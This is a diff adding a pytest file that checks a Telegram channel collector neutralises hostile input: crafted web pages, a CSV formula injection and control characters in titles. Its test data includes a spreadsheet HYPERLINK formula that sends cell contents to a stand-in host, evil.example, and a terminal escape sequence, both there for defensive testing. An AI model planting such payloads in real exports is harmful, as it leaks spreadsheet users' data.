@@ -1,0 +1,224 @@
+"""Hostile data that tgspread accepts and makes safe: the second table of docs/bad-input.md, one test per row.
+
+docs/bad-input.md's first table lists input that is refused (one line, an exit code, nothing changed;
+tests/test_bad_input.py). This one lists data from outside (page markup, export files, titles, texts) that
+is taken in and must come out harmless: a crafted web page never aborts the pass, a post text never
+becomes a spreadsheet formula, a title never breaks an XML file, a huge message is refused with a
+documented limit instead of exhausting memory. Each row's id names a function here (:data:`CASES`); the
+test fails when the document and the functions disagree.
+"""
+
+from __future__ import annotations
+
+import csv
+import json
+import re
+import xml.dom.minidom
+from collections.abc import Callable
+from datetime import UTC, datetime
+from pathlib import Path
+
+import httpx
+import pytest
+
+from collector.archive import Archive
+from collector.sources.web import PreviewFetcher, WebReport, collect_web
+
+ROOT = Path(__file__).resolve().parent.parent
+DOC = ROOT / "docs" / "bad-input.md"
+BEGIN = "<!-- hostile-data table: each row is a test in tests/test_hostile_input.py -->"
+END = "<!-- end of hostile-data table -->"
+WEB = Path(__file__).parent / "fixtures" / "web"
+EXPORTS = Path(__file__).parent / "fixtures" / "export"
+NOW = datetime(2024, 6, 5, 12, 0, tzinfo=UTC)
+
+Check = Callable[[Path], None]
+CASES: dict[str, Check] = {}
+
+
+def case(name: str) -> Callable[[Check], Check]:
+    def register(fn: Check) -> Check:
+        assert name not in CASES, name
+        CASES[name] = fn
+        return fn
+    return register
+
+
+def doc_ids() -> list[str]:
+    text = DOC.read_text(encoding="utf-8")
+    table = text[text.index(BEGIN):text.index(END)]
+    return [line.split("|")[1].strip() for line in table.splitlines()[3:] if line.startswith("| ")]
+
+
+# -- web previews: a crafted page never aborts the pass (issue 17, item 21) --------------------------------------
+PAGE = (WEB / "channel_page1.html").read_text(encoding="utf-8")
+
+
+def web_pass(tmp: Path, pages: dict[str, str], channels: list[str]) -> tuple[WebReport, list[tuple[object, ...]]]:
+    """One web pass over ``channels`` served ``pages`` (path -> HTML); the report and the runs rows."""
+    client = httpx.Client(transport=httpx.MockTransport(
+        lambda r: httpx.Response(200, text=pages.get(r.url.path, ""))))
+    with Archive(tmp / "archive.duckdb") as archive:
+        report = collect_web(archive, channels, now=NOW, max_pages=1,
+                             fetcher=PreviewFetcher(client, sleep=lambda s: None, min_interval=0))
+        runs = archive.con.execute("SELECT r.status, c.input, c.outcome FROM runs r JOIN run_channels c "
+                                   "USING (run_id) ORDER BY c.input").fetchall()
+    return report, runs
+
+
+def _one_crafted_block(tmp: Path, old: str, new: str) -> None:
+    """``old`` -> ``new`` in the fixture page: that block is skipped, every other post is stored, the run is recorded."""
+    assert old in PAGE
+    report, runs = web_pass(tmp, {"/s/osint_demo": PAGE.replace(old, new, 1)}, ["osint_demo"])
+    (ch,) = report.channels
+    assert ch.outcome == "ok", ch.error
+    assert ch.new_posts >= 5 and ch.skipped_blocks
+    assert runs == [("ok", "osint_demo", "ok")]
+
+
+@case("web-post-id-superscript")
+def _web_superscript(tmp: Path) -> None:
+    _one_crafted_block(tmp, 'data-post="osint_demo/111"', 'data-post="osint_demo/\u00b2"')
+
+
+@case("web-post-id-5000-digits")
+def _web_long_id(tmp: Path) -> None:
+    _one_crafted_block(tmp, 'data-post="osint_demo/111"', 'data-post="osint_demo/' + "9" * 5000 + '"')
+
+
+@case("web-post-id-above-int64")
+def _web_big_id(tmp: Path) -> None:
+    _one_crafted_block(tmp, 'data-post="osint_demo/111"', 'data-post="osint_demo/99999999999999999999"')
+
+
+@case("web-date-before-year-1")
+def _web_year_one(tmp: Path) -> None:
+    _one_crafted_block(tmp, 'datetime="2024-06-01T10:05:12+00:00"', 'datetime="0001-01-01T00:00:00+01:00"')
+
+
+@case("web-views-above-int64")
+def _web_big_views(tmp: Path) -> None:
+    old = re.search(r'tgme_widget_message_views">[^<]+<', PAGE)
+    assert old is not None
+    report, runs = web_pass(tmp, {"/s/osint_demo": PAGE.replace(
+        old.group(0), 'tgme_widget_message_views">99999999999999999999999<', 1)}, ["osint_demo"])
+    assert report.channels[0].outcome == "ok" and report.channels[0].new_posts >= 6
+    assert runs == [("ok", "osint_demo", "ok")]
+
+
+@case("web-page-crashing-the-parser")
+def _web_parser_crash(tmp: Path) -> None:
+    """Whatever a page makes the parser raise, that channel is reported and the next one collected."""
+    import collector.sources.web as web
+
+    real = web.parse_page
+
+    def crafted(html: str) -> object:
+        if "BOOM" in html:
+            raise ValueError("crafted page")
+        return real(html)
+
+    pages = {"/s/boom_channel": PAGE.replace("osint_demo", "boom_channel") + "<!-- BOOM -->",
+             "/s/osint_demo": PAGE}
+    saved, web.parse_page = web.parse_page, crafted          # type: ignore[assignment]
+    try:
+        report, runs = web_pass(tmp, pages, ["boom_channel", "osint_demo"])
+    finally:
+        web.parse_page = saved
+    outcomes = {c.input: (c.outcome, c.error or "") for c in report.channels}
+    assert outcomes["boom_channel"][0] == "error" and "ValueError" in outcomes["boom_channel"][1]
+    assert outcomes["osint_demo"] == ("ok", "")
+    assert runs == [("partial", "boom_channel", "error"), ("partial", "osint_demo", "ok")]
+
+
+# -- files written for other programs (items 17 and 19) ------------------------------------------------------------
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def _archive_with_text(tmp: Path, text: str, title: str = "Plain Title") -> Path:
+    from collector.sources import store
+
+    path = tmp / "archive.duckdb"
+    with Archive(path) as archive, store.transaction(archive):
+        store.upsert_channels(archive, [{"channel_id": 777, "username": "plain_title", "title": title,
+                                         "source": "web", "first_seen_at": NOW, "last_seen_at": NOW}], now=NOW)
+        store.upsert_posts(archive, [{"channel_id": 777, "message_id": 1, "posted_at": NOW, "text": text,
+                                      "post_author": "@admin", "source": "web", "first_seen_at": NOW,
+                                      "last_seen_at": NOW}], now=NOW)
+    return path
+
+
+@case("csv-formula-in-text")
+def _csv_formula(tmp: Path) -> None:
+    from collector.export import ensure_pseudonym_key, export_archive
+
+    path = _archive_with_text(tmp, FORMULA)
+    ensure_pseudonym_key(path, wait=0)
+    with Archive(path, read_only=True) as archive:
+        export_archive(archive, tmp / "out", fmt="csv", tables=["posts", "channels"])
+    (posts,) = (tmp / "out" / "posts").rglob("*.csv")
+    with posts.open(encoding="utf-8", newline="") as f:
+        row = next(csv.DictReader(f))
+    assert row["text"] == "'" + FORMULA and row["post_author"] == "'@admin"
+    for name in ("=", "+", "-", "@", "\t", "\r"):
+        for cell in row.values():
+            assert not cell.startswith(name), cell
+    # Parquet keeps the text exactly
+    export_archive_parquet = tmp / "pq"
+    with Archive(path, read_only=True) as archive:
+        export_archive(archive, export_archive_parquet, tables=["posts"])
+    import duckdb
+
+    got = duckdb.sql(f"SELECT text FROM read_parquet('{export_archive_parquet}/posts/**/*.parquet')").fetchall()
+    assert got == [(FORMULA,)]
+
+
+def _network_archive(tmp: Path, title: str) -> Path:
+    from collector.sources import store
+
+    path = tmp / "archive.duckdb"
+    rows = [{"channel_id": 2, "message_id": m, "posted_at": NOW, "text": "x", "fwd_channel_id": 1,
+             "fwd_message_id": m, "fwd_posted_at": NOW, "source": "api", "first_seen_at": NOW,
+             "last_seen_at": NOW} for m in (1, 2)]
+    with Archive(path) as archive, store.transaction(archive):
+        store.upsert_channels(archive, [
+            {"channel_id": 1, "username": "origin_chan", "title": title, "source": "api",
+             "first_seen_at": NOW, "last_seen_at": NOW},
+            {"channel_id": 2, "username": "relay_chan", "title": "Relay", "source": "api",
+             "first_seen_at": NOW, "last_seen_at": NOW}], now=NOW)
+        store.upsert_posts(archive, rows, now=NOW)
+    return path
+
+
+@case("xml-control-character-in-title")
+def _xml_title(tmp: Path) -> None:
+    import duckdb
+
+    from analysis.export import export_gexf, export_graphml
+
+    path = _network_archive(tmp, "Chan\x1b]0;PWNED\x07\x1b[2J\x00end")
+    con = duckdb.connect(str(path), read_only=True)
+    try:
+        for write, name in ((export_gexf, "n.gexf"), (export_graphml, "n.graphml")):
+            out = write(con, tmp / name)
+            doc = xml.dom.minidom.parse(str(out))          # raises on a character XML forbids
+            assert "Chan\ufffd]0;PWNED\ufffd\ufffd[2J\ufffdend" in doc.toxml()
+    finally:
+        con.close()
+
+
+# -- the document and the cases agree ---------------------------------------------------------------------------
+def test_the_document_lists_every_hostile_case() -> None:
+    ids = doc_ids()
+    assert len(ids) == len(set(ids)), "duplicate ids in the hostile-data table"
+    assert sorted(ids) == sorted(CASES)
+
+
+@pytest.mark.parametrize("name", doc_ids())
+def test_hostile_row(name: str, tmp_path: Path) -> None:
+    CASES[name](tmp_path)
+
+
+def test_json_of_the_cases_is_plain() -> None:
+    """The ids are plain words (they are table cells and test ids)."""
+    assert all(re.fullmatch(r"[a-z0-9-]+", n) for n in CASES), json.dumps(sorted(CASES))
